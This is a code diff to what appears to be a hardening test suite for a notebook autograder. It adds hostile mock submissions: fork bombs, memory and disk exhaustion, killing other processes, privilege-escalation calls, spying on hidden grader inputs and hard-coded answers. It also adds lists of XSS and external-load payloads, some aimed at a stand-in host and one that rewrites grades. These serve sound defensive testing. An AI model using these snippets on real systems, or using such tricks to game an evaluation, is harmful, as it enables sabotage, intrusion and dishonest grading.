@@ -85,6 +85,25 @@ def scripts(cells):
     cells["own"] = new_markdown_cell(text)
 
 
+def spied(name, function, place, source):
+    """Write down the inputs of one function, and do something with them in another cell."""
+    def change(cells):
+        cells[name].source += f"""
+seen, unseen = [], {function}
+def {function}(*arguments):
+    seen.append(f"SPY {{[getattr(a, 'tolist', str)() for a in arguments]}}")
+    return unseen(*arguments)
+"""
+        cells[place].source += source
+    return change
+
+
+def added_cells(number, source):
+    """Add cells of code, all the same."""
+    return lambda cells: cells.update(
+        {f"own {index}": new_code_cell(source) for index in range(number)})
+
+
 def added(cell):
     """Add a cell of the student's own."""
     return lambda cells: cells.update(own=cell)
@@ -184,7 +203,7 @@ def mutual_information(counts):
     "memory_bomb": (below("mutual-information", """
 kept = []
 while True:
-    kept.append(bytearray(10**8))
+    kept.append(np.empty(10**8, np.uint8))
 """), Q5),  # what is kept is missing there
     "exits": (below("in-batch-info-nce", "import os\nos._exit(0)"), Q3 | Q4 | Q5),
     "prints_without_end": (below("best-critic", "while True:\n    print('x' * 100000)"), set()),
@@ -211,6 +230,102 @@ for kind, content in (
         ("error", {"ename": SCRIPT, "evalue": SCRIPT, "traceback": [SCRIPT]})):
     kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())
 """), set()),
+    "forks_that_share_memory": (below("best-critic", """
+import mmap, os, time
+for _ in range(5):  # no process has 6 GiB of its own
+    shared = mmap.mmap(-1, 2 * 2**30)
+    if not os.fork():
+        for start in range(0, len(shared), 2**20):
+            shared[start:start + 2**20] = b"x" * 2**20
+        time.sleep(1000)
+    shared = None
+time.sleep(9)
+"""), set()),  # those are ended, the largest first
+    "starts_processes_without_end": (below("best-critic", """
+import os, time
+try:
+    for _ in range(100_000):
+        if not os.fork():
+            time.sleep(1000)
+except OSError as wrong:
+    print("STOPPED", wrong)
+"""), set()),
+    "fills_every_folder": (below("best-critic", """
+import os
+written = 0
+for folder in ("/tmp", "/tmp/work", *(f"/tmp/{name}" for name in os.listdir("/tmp")), "/dev/shm"):
+    try:
+        for number in range(99):
+            with open(f"{folder}/{number}-{written}", "wb") as file:
+                for _ in range(48):
+                    written += file.write(bytes(2**20))
+    except OSError:
+        pass
+print("WROTE", written)
+"""), set()),
+    "large_outputs": (added_cells(4, "print('x' * 19 * 2**20)"), set()),
+    "many_pictures": (below("best-critic", """
+import base64, os
+from IPython.display import display
+for _ in range(12):
+    display({"image/png": base64.b64encode(os.urandom(2**20)).decode()}, raw=True)
+"""), set()),
+    "takes_the_sockets_away": (below("best-critic", """
+import os
+for name in os.listdir("/tmp"):
+    if name != "work" and not os.path.isdir(f"/tmp/{name}"):
+        os.remove(f"/tmp/{name}")
+        os.symlink("/etc/passwd", f"/tmp/{name}")
+"""), set()),
+    "becomes_root_of_its_own_world": (below("best-critic", """
+import ctypes
+system = ctypes.CDLL(None, use_errno=True)
+print("GAINED", [name for name, call in {
+    "users": lambda: system.unshare(0x10000000), "mounts": lambda: system.unshare(0x20000),
+    "root": lambda: system.setuid(0), "mount": lambda: system.mount(b"x", b"/tmp", b"tmpfs", 0, 0),
+    "chroot": lambda: system.chroot(b"/tmp"),
+}.items() if call() == 0])
+"""), set()),
+    "ends_the_processes_it_sees": (below("best-critic", """
+import signal
+for number in [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
+    try:
+        os.kill(int(number), signal.SIGKILL)
+    except OSError:
+        pass
+"""), set()),
+    "takes_the_package": (answered("info-nce", """
+import s3rec_mini
+def info_nce(scores, temperature=TEMPERATURE):
+    return s3rec_mini.info_nce(scores.roll(-POSITIVE, 1), temperature)
+"""), Q2 | Q5),
+    "reads_the_package": (answered("info-nce", """
+import glob, sys
+found = [path for folder in sys.path for path in glob.glob(f"{folder}/s3rec_mini/*")]
+print("FILES", [path for path in found if not path.endswith("__init__.py")])
+"""), Q2 | Q5),
+    "prints_hidden_inputs": (spied("info-nce", "info_nce", "best-critic", """
+print(seen)
+from IPython.display import display
+display({"image/png": "SPY" * 40, "text/plain": str(seen)}, raw=True)
+raise type(f"SPY{len(seen)}", (ValueError,), {})(str(seen))
+"""), set()),
+    "raises_hidden_inputs": (below("info-nce", """
+def info_nce(scores, temperature=TEMPERATURE):
+    raise type(f"SPY{scores.shape[0]}", (ValueError,), {})(f"SPY {scores.tolist()}")
+"""), Q2 | Q5),
+    "raises_hidden_inputs_later": (spied("mutual-information", "mutual_information", "info-nce", """
+def info_nce(scores, temperature=TEMPERATURE):
+    raise ValueError(str(seen))
+"""), Q2 | Q5),
+    "answers_from_a_table": (answered("mutual-information", """
+def mutual_information(counts):
+    return torch.tensor({4: 0.0, 6: 0.1}.get(counts.numel(), 0.2), dtype=torch.float64)
+"""), Q1),
+    "gives_back_its_input": (answered("mutual-information", """
+def mutual_information(counts):
+    return counts
+"""), Q1),
     "labels_lost": (unlabelled, set()),
     "half_signs": (half_signs, set()),
     "unhashable_labels": (unhashable_labels, set()),
@@ -220,6 +335,34 @@ for kind, content in (
     "copied_unfilled": (copied_unfilled, set()),
     "scripts_in_text": (scripts, set()),
 }
+
+# What their written answers try on whoever opens them in a browser: to run something, to load
+# something from elsewhere, or to change a grade.
+EVIL = "http://evil.invalid"
+RUNS = [
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)></svg>",
+    "<svg><script>alert(1)</script></svg>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe src='javascript:alert(1)'></iframe>", "<details open ontoggle=alert(1)>x</details>",
+    "<video><source onerror=alert(1)></video>", "<input autofocus onfocus=alert(1)>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
+    "onerror=alert(1)&gt;'>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<body onload=alert(1)>",
+    "<script type=module>import('data:text/javascript,alert(1)')</script>",
+    "<script>for (const way of ['PUT', 'POST']) fetch('/formgrader/api/grades', {method: way, body:"
+    " '{\"manual_score\": 33}'}).then(alert, alert)</script>",
+    "<audio src=data:, onerror=alert(1) autoplay></audio>",
+]
+LOADS = [
+    f"![x]({EVIL}/a.png)", f"<img src={EVIL}/b.png srcset={EVIL}/b2.png>",
+    f"<link rel=stylesheet href={EVIL}/c.css>", f"<style>@import url({EVIL}/d.css);</style>",
+    f"<p style='background:url({EVIL}/e.png)'>x</p>", f"<object data={EVIL}/f></object>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}/g'>", f"<audio src={EVIL}/h autoplay></audio>",
+    f"<video poster={EVIL}/i></video>", f"<embed src={EVIL}/j>", f"<base href={EVIL}/><img src=k>",
+    f"<script src={EVIL}/l></script>", f"<iframe src={EVIL}/m></iframe>",
+    f"<form action={EVIL}/n id=n></form><script>document.forms.n.submit()</script>",
+]
+LEADS = ["[x](javascript:alert(1))", "$\\href{javascript:alert(1)}{x}$",
+         "<a href='java&#10;script:alert(1)'>x</a>", "<a href='data:text/html,x'>x</a>"]
 
 # What grades.csv says of them, and of those that lose nothing by it.
 NOTED = {
